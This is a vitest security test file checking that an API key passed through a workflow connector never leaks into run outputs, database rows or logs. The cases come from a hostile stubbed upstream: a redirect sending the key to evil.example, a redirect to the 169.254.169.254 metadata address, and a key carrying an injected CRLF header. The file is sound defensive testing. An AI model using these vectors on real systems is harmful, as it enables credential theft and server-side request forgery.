import { gzipSync } from 'node:zlib';
import pino from 'pino';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import {
  canary,
  connectFramer,
  connectionParameter,
  framerApi,
  host,
  references,
} from '../../../../../tools/testing/framer-api.ts';
import { type ManagedServer, startManagedServer } from '../../../../../tools/testing/managed-server.ts';
import { over, save, urlOf } from '../../../../../tools/testing/run-workflows.ts';

// Attacks T23, T38 of docs/security.md.

let managed: ManagedServer;
const logged: string[] = [];
beforeAll(async () => {
  managed = await startManagedServer({ log: pino({ level: 'trace' }, { write: (line: string) => logged.push(line) }) });
  await managed.send('PUT', `${managed.group}/providers/Microsoft.Web/customApis/framer`, { body: framerApi(managed) });
});
afterAll(() => managed.close());
beforeEach(() => {
  managed.stub.seen.length = 0;
  managed.stub.answer = (_, response) =>
    response.writeHead(200, { 'content-type': 'application/json' }).end('{"price":20.00}');
});

test.each<{
  name: string;
  key?: string;
  answer?: (echo: string) => { status: number; headers?: Record<string, string>; body?: string | Buffer; cut?: true };
}>([
  { name: 'an answer that echoes the key', answer: (echo) => ({ status: 500, body: `{"error":"bad key ${echo}"}` }) },
  {
    name: 'a text that echoes it',
    answer: (echo) => ({ status: 400, headers: { 'content-type': 'text/plain' }, body: `key=${echo}` }),
  },
  {
    name: 'a header that echoes it',
    answer: (echo) => ({ status: 403, headers: { 'www-authenticate': `Key realm="${echo}"` } }),
  },
  {
    name: 'its base64',
    answer: (echo) => ({
      status: 422,
      body: Buffer.from(echo, 'latin1').toString('base64'),
    }),
  },
  {
    name: 'a redirect that carries it away',
    answer: (echo) => ({ status: 302, headers: { location: `https://evil.example/?k=${encodeURIComponent(echo)}` } }),
  },
  {
    name: 'a redirect to a private address',
    answer: () => ({ status: 307, headers: { location: 'http://169.254.169.254/' } }),
  },
  { name: 'broken compression', answer: () => ({ status: 200, headers: { 'content-encoding': 'gzip' }, body: 'no' }) },
  {
    name: 'its hexadecimal digits',
    answer: (echo) => ({ status: 400, body: Buffer.from(echo, 'latin1').toString('hex') }),
  },
  {
    name: 'its base64 for addresses, inside of more',
    answer: (echo) => ({ status: 404, body: Buffer.from(`user:${echo}`, 'latin1').toString('base64url') }),
  },
  {
    name: 'an address that holds it',
    answer: (echo) => ({ status: 400, body: `https://x.example/?k=${encodeURIComponent(echo)}` }),
  },
  {
    name: 'an answer that hides it in compression',
    answer: (echo) => ({
      status: 500,
      headers: { 'content-encoding': 'gzip' },
      body: gzipSync(Buffer.from(JSON.stringify({ key: echo }), 'latin1')),
    }),
  },
  { name: 'JSON that is none', answer: (echo) => ({ status: 502, body: `{"key": ${echo}` }) },
  { name: 'an answer cut off in the middle', answer: (echo) => ({ status: 500, body: `key=${echo}`, cut: true }) },
  { name: 'a key that no header can hold', key: `${canary}\r\nX-Evil: 1` },
])('a call that fails by $name leaves the key nowhere', async ({ key, answer }) => {
  const { client, access } = managed;
  const { body: connection } = await connectFramer(managed, 'failing', key);
  managed.stub.answer = (request, response) => {
    const { status, headers, body, cut } = answer?.(String(request.headers['x-api-key'])) ?? { status: 200 };
    response.writeHead(status, { 'content-type': 'application/json', ...headers });
    const bytes = typeof body === 'string' ? Buffer.from(body, 'latin1') : (body ?? '');
    if (cut) response.write(bytes, () => response.destroy());
    else response.end(bytes);
  };
  const actions = {
    Call: {
      type: 'ApiConnection',
      inputs: { host, method: 'get', path: '/price/1/1', retryPolicy: { type: 'none' } },
      runAfter: {},
    },
  };
  await save(managed, 'failing', { actions, ...connectionParameter }, references(connection.id));
  const run =
    (await fetch(await urlOf(managed, 'failing'), { method: 'POST' })).headers.get('x-ms-workflow-run-id') ?? '';
  const finished = await over(managed, 'failing', run);
  const action = await client.workflowRunActions.get(access.resourceGroup, 'failing', run, 'Call');
  const outputs = action.outputsLink?.uri === undefined ? '' : await (await fetch(action.outputsLink.uri)).text();
  expect(finished.status).toBe('Failed');
  expect(JSON.stringify([finished, action, outputs])).not.toMatch(/canary|Y2FuYXJ5/);
});

/** Every form in which the key could stand somewhere, as text. */
const forms = [
  canary,
  encodeURIComponent(canary),
  ...[Buffer.from(canary), Buffer.from(canary, 'latin1')].flatMap((bytes) =>
    // A part in the middle, so that what stands before it does not matter.
    [0, 1, 2].flatMap((offset) => [
      bytes.subarray(offset, offset + 12).toString('base64'),
      bytes.subarray(offset, offset + 12).toString('base64url'),
      bytes.subarray(offset, offset + 12).toString('hex'),
    ]),
  ),
];
const holdsKey = (text: string) => forms.some((form) => text.includes(form) || text.includes(form.toUpperCase()));

test('no secret is in the database in clear, in any encoding', async () => {
  const tables = await managed.store.system.query<{ schema: string; table: string }>(
    `select schemaname as schema, tablename as "table" from pg_tables
     where schemaname in ('public', 'pgboss')
       and has_table_privilege('tenon_worker', to_regclass(quote_ident(schemaname) || '.' || quote_ident(tablename)), 'select')`,
  );
  expect(tables.map(({ table }) => table)).toEqual(expect.arrayContaining(['connections', 'job']));
  for (const { schema, table } of tables) {
    const rows = await managed.store.system.query<{ row: string }>(
      `select t::text as row from "${schema}"."${table}" t`,
    );
    expect(
      rows.filter(({ row }) => holdsKey(row)),
      table,
    ).toEqual([]);
  }
});

test('no secret is in the log, which tells everything', () => {
  managed.parts.log.info({ probe: true }, 'the log is heard');
  expect(logged.join('')).toContain('the log is heard');
  expect(logged.filter(holdsKey)).toEqual([]);
});

test('the search for the key finds it in every form', () => {
  for (const bytes of [Buffer.from(canary), Buffer.from(canary, 'latin1')]) {
    for (const before of ['', 'a', 'ab']) {
      for (const encoding of ['base64', 'base64url', 'hex'] as const) {
        expect(holdsKey(Buffer.concat([Buffer.from(before), bytes]).toString(encoding)), `${before} ${encoding}`).toBe(
          true,
        );
      }
    }
  }
});
